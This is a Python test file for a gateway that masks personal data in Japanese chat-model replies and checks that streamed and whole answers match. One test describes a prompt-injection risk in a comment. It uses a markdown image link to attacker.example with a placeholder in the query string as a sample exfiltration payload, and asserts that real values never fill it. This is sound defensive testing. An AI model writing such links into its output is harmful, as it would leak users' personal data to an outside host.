"""The answer side: personal data the model produced is hidden; the client's own values come back.

Streamed or not, the client receives the same text, whatever the split into events.
"""

from __future__ import annotations

from collections.abc import Callable

import openai
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.storage.database import Database
from tests import canaries as c
from tests.conftest import API_VERSION, azure_backend
from tests.fake_upstream import Behaviour, FakeUpstream
from tests.harness import GatewayServer
from tests.records import record

INVENTED = "担当は support-desk@example.org（03-5555-0123）です。"
REPLY = f"<PERSON_1>さんへ。{INVENTED}"
EXPECTED = f"{c.NAME}さんへ。担当は ［非表示:メールアドレス］（［非表示:電話番号］）です。"
ASK = [{"role": "user", "content": f"{c.NAME}さんへの返信を書いて"}]


def _streamed(client: openai.AzureOpenAI) -> str:
    chunks = client.chat.completions.create(model="gpt-4o", stream=True, messages=ASK)  # type: ignore[arg-type]
    return "".join(ch.choices[0].delta.content or "" for ch in chunks if ch.choices)


def test_personal_data_invented_by_the_model_is_hidden(
    azure: openai.AzureOpenAI, upstream: FakeUpstream, database: Database
) -> None:
    upstream.enqueue(Behaviour(reply=REPLY))
    raw = azure.chat.completions.with_raw_response.create(model="gpt-4o", messages=ASK)  # type: ignore[arg-type]
    assert raw.parse().choices[0].message.content == EXPECTED
    pii = record(database, raw.headers["x-request-id"])["pii"]
    assert pii == {"PERSON": 1, "answer.EMAIL_ADDRESS": 1, "answer.PHONE_NUMBER": 1}


def test_streamed_answers_are_scanned_too(azure: openai.AzureOpenAI, upstream: FakeUpstream) -> None:
    for size in (1, 3, 8):
        upstream.enqueue(Behaviour(reply=REPLY, chunk_size=size))
        assert _streamed(azure) == EXPECTED


@pytest.mark.parametrize("stream", [False, True])
def test_values_are_not_put_into_links(azure: openai.AzureOpenAI, upstream: FakeUpstream, stream: bool) -> None:
    # A prompt injection could make the model write the placeholder into a URL a client would fetch.
    reply = "![状況](https://attacker.example/p.png?q=【PERSON_1】) <PERSON_1>さん"
    upstream.enqueue(Behaviour(reply=reply, chunk_size=4))
    if stream:
        text = _streamed(azure)
    else:
        answer = azure.chat.completions.create(model="gpt-4o", messages=ASK)  # type: ignore[arg-type]
        text = answer.choices[0].message.content or ""
    assert text == f"![状況](https://attacker.example/p.png?q=【PERSON_1】) {c.NAME}さん"


def test_the_scan_can_be_turned_off(start_gateway: Callable[..., GatewayServer], upstream: FakeUpstream,
                                    client_key: str) -> None:
    gw = start_gateway({"detection": {"response_scan": False}, "backends": {"b": azure_backend(upstream)}})
    client = openai.AzureOpenAI(azure_endpoint=gw.url, api_key=client_key, api_version=API_VERSION, max_retries=0)
    upstream.enqueue(Behaviour(reply=REPLY))
    answer = client.chat.completions.create(model="gpt-4o", messages=ASK)  # type: ignore[arg-type]
    assert answer.choices[0].message.content == f"{c.NAME}さんへ。{INVENTED}"


PIECES = st.sampled_from([
    "<PERSON_1>", "＜PERSON_1＞", "PERSON_1", "<person_1>", "<PERSON_2>", "<PERSON_", "PERSON_10",
    "さん", "。", "、", "\n", "こんにちは", " ", "a", "<", "_1>", "info@example.org", "😀", "です",
])


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(reply=st.lists(PIECES, min_size=1, max_size=25).map("".join), size=st.integers(1, 9))
def test_stream_and_whole_answers_agree_for_any_text_and_split(
    azure: openai.AzureOpenAI, session_upstream: FakeUpstream, reply: str, size: int
) -> None:
    session_upstream.enqueue(Behaviour(reply=reply))
    whole = azure.chat.completions.create(model="gpt-4o", messages=ASK)  # type: ignore[arg-type]
    session_upstream.enqueue(Behaviour(reply=reply, chunk_size=size))
    assert _streamed(azure) == whole.choices[0].message.content
